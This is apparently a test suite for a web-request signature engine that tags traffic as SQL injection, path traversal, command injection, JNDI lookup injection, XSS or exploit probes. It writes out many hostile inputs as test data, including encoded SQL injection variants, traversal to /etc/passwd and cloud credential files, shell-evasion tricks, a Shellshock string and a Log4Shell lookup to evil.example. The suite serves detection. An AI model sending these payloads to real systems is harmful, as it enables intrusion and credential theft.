"""Signatures: attacks are recognised however they are written; ordinary visits are left alone."""

from __future__ import annotations

import base64
import re
from urllib.parse import quote, quote_plus

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tracking.engine import signatures
from tracking.engine.families import FAMILIES, FamilySeverity
from tracking.engine.payloads import PAYLOADS
from tracking.engine.payloads.payload import Payload

NAMES = [family.name for family in FAMILIES]


def tags(target: str, status: int = 200, **fields: str) -> tuple[str, ...]:
    path, _, query = target.partition("?")
    return signatures.tags(method="GET", path=path, query=query, status=status, **fields)


@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda payload: payload.example)
def test_each_payload_is_recognised_in_its_example(payload: Payload) -> None:
    assert payload.family.name in tags(payload.example)


INJECTION = "' union select 1,2 from users"


@pytest.mark.parametrize(
    "written",
    [
        INJECTION,
        quote(INJECTION),
        quote_plus(INJECTION),
        quote(quote(INJECTION)),
        quote(quote(quote(INJECTION))),
        quote("' UnIoN SeLeCt 1,2 FrOm users"),
        quote("'/**/union/**/select/**/1,2/*x*/from/**/users"),
        quote("' /*!50000union*/ /*!select*/ 1,2 from users"),
        quote("'\tunion\n select\x0b1,2 from users"),
        quote("' un\u200bion se\u200blect 1,2 from users"),
        quote("＇ ｕｎｉｏｎ ｓｅｌｅｃｔ １,2 from users"),
        r"\u0027 union select 1,2 from users",
        r"\x27 union select 1,2 from users",
        "%u0027 union select 1,2 from users",
        quote("&#39; union select 1,2 from users"),
        quote("&#x0000027; union select 1,2 from users"),
        quote("&apos; union select 1,2 from users"),
        base64.b64encode(INJECTION.encode()).decode(),
        base64.urlsafe_b64encode(INJECTION.encode()).decode().rstrip("="),
    ],
)
def test_a_payload_is_recognised_however_it_is_escaped(written: str) -> None:
    assert tags(f"/items?page=2&id=1{written}&sort=name" if "'" in written else f"/?id={written}")
    assert "sql_injection" in tags(f"/?id={written}")


@pytest.mark.parametrize(
    "path",
    [
        "/a/../../../../etc/passwd",
        "/a/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
        "/a/%252e%252e%252f%252e%252e%252fetc%252fpasswd",
        "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/bin/sh",
        "/a/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
        "/a/..%c0%af..%c0%afetc/passwd",
        "/a/..%5c..%5cwindows%5csystem32",
        "/a/..\\..\\boot.ini",
        "/a/..;/..;/web-inf/web.xml",
        "/ETC/../../Etc/Passwd%00.png",
    ],
)
def test_a_way_out_of_a_folder_is_recognised_however_it_is_written(path: str) -> None:
    assert "path_traversal" in tags(path, 404)


@pytest.mark.parametrize(
    "noise",
    [
        "c''at /etc/passwd",
        "c\\at /e\\tc/pas\\swd",
        "cat${IFS}/etc/passwd",
        'c"a"t /etc/pas"s"wd',
        "c$@at /etc/passwd",
        "cat$IFS$9/etc/passwd",
    ],
)
def test_quotes_that_a_shell_takes_away_hide_no_command(noise: str) -> None:
    assert "command_injection" in tags("/?host=8.8.8.8;" + quote(noise))


@pytest.mark.parametrize(
    ("path", "family"),
    [
        ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "known_exploit"),
        ("/owncloud/apps/graphapi/vendor/x/tests/GetPhpInfo.php", "known_exploit"),
        ("/%5f%69gnition/%65xecute-solution", "known_exploit"),
        ("/w00tw00t.at.ISC.SANS.DFind:)", "known_exploit"),
        ("/nmaplowercheck1700000000", "known_exploit"),
        ("//HNAP1/", "known_exploit"),
        ("/.env", "leaked_file"),
        ("/shop/.git/config", "leaked_file"),
        ("/x/../.aws/credentials", "leaked_file"),
        ("/.ENV", "leaked_file"),
        ("/.some-new-assistant/settings.json", "leaked_file"),
        ("/backup.zip", "leaked_file"),
        ("/wp-config.php.bak", "leaked_file"),
        ("/index.php~", "leaked_file"),
        ("/uploads/c99.php", "backdoor"),
        ("/Some_Linux_Shell.php", "backdoor"),
        ("/wp-login.php", "absent_software"),
        ("/blog/wp-admin/", "absent_software"),
        ("/administrator/index.php", "absent_software"),
        ("/wp-content/plugins/any/readme.txt", "absent_software"),
        ("/phpMyAdmin/", "absent_software"),
        ("/wp-content/upgrade/index.php", "absent_software"),
    ],
)
def test_a_telling_path_is_recognised_where_there_is_nothing(path: str, family: str) -> None:
    assert family in tags(path, 404)


@pytest.mark.parametrize(
    ("agent", "family"),
    [
        ("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)", "scanner_agent"),
        ("sqlmap/1.8#stable (https://sqlmap.org)", "scanner_agent"),
        ("() { :;}; /bin/bash -c 'id'", "command_injection"),
        ("${${lower:j}ndi:ldap://evil.example/a}", "lookup_injection"),
        ("' or 1=1 -- ", "sql_injection"),
        ("<script>alert(1)</script>", "cross_site_scripting"),
    ],
)
def test_a_telling_agent_is_recognised(agent: str, family: str) -> None:
    assert family in tags("/", user_agent=agent)


def test_a_referer_that_no_browser_writes_is_looked_into() -> None:
    assert "cross_site_scripting" in tags(
        "/", referer="https://x.example/?a=<script>alert(1)</script>"
    )
    assert "sql_injection" in tags("/", referer=quote(INJECTION))


@pytest.mark.parametrize("scheme", ["http", "https", "android-app"])
def test_what_somebody_searched_for_elsewhere_is_no_attack(scheme: str) -> None:
    assert tags("/", referer=f"{scheme}://search.example/?q={quote(INJECTION)}") == ()


def test_what_only_looks_like_base64_is_answered() -> None:
    assert tags("/?id=" + "QUJD" * 10 + "A") == ()


def test_a_proxy_is_not_open_and_a_greeting_is_no_http() -> None:
    assert signatures.tags(method="CONNECT", path="mail.example:25") == ("open_proxy",)
    assert signatures.tags(method="-", path="%16%03%01") == ("not_http",)
    assert signatures.tags(method="-", path="Gh0st%AD%00") == ("known_exploit",)
    assert signatures.tags(method="-", path="-", status=408) == ()


def test_only_what_a_person_may_send_by_accident_is_mild() -> None:
    mild = {family.name for family in FAMILIES if family.severity is FamilySeverity.MILD}
    assert mild == {"absent_software", "markup", "sql_fragment", "not_http"}


def test_tags_are_words_each_with_a_description_in_one_order() -> None:
    found = tags("/.env?x=<script>alert(1)</script>&y='+or+1=1--", 404)
    assert list(found) == sorted(found, key=NAMES.index)
    assert len(set(NAMES)) == len(NAMES)
    assert all(re.fullmatch(r"[a-z_]{4,32}", name) for name in NAMES)
    assert all(family.description.endswith(".") for family in FAMILIES)


@given(st.text(), st.text(), st.text(), st.text())
def test_any_text_is_answered(path: str, query: str, agent: str, referer: str) -> None:
    found = signatures.tags(
        method=path[:4], path=path, query=query, user_agent=agent, referer=referer, status=404
    )
    assert set(found) <= set(NAMES)


@given(st.text(alphabet="%25cC0aAeE.\\/u&#x;'\"<>(){}$|`* \t\r\n=?+-_bo1\udcc0\udcae\uff1c"))
def test_any_broken_escape_is_answered(text: str) -> None:
    assert set(tags(f"/{text}?{text}", 404, user_agent=text, referer=text)) <= set(NAMES)


def test_the_ends_of_a_long_query_are_looked_at() -> None:
    padding = "a" * 100_000
    assert "sql_injection" in tags(f"/?id=1{INJECTION}&pad={padding}")
    assert "sql_injection" in tags(f"/?pad={padding}&id=1{INJECTION}")
